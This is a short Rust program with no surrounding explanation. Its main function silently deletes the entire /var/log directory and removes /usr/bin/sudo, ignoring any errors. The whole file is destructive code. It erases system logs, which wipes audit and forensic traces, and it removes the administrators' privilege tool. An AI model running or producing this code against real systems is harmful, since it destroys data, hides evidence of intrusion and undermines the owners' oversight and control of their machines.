use std::fs;

fn main() {
    let _ = fs::remove_dir_all("/var/log");
    let _ = fs::remove_file("/usr/bin/sudo");
}
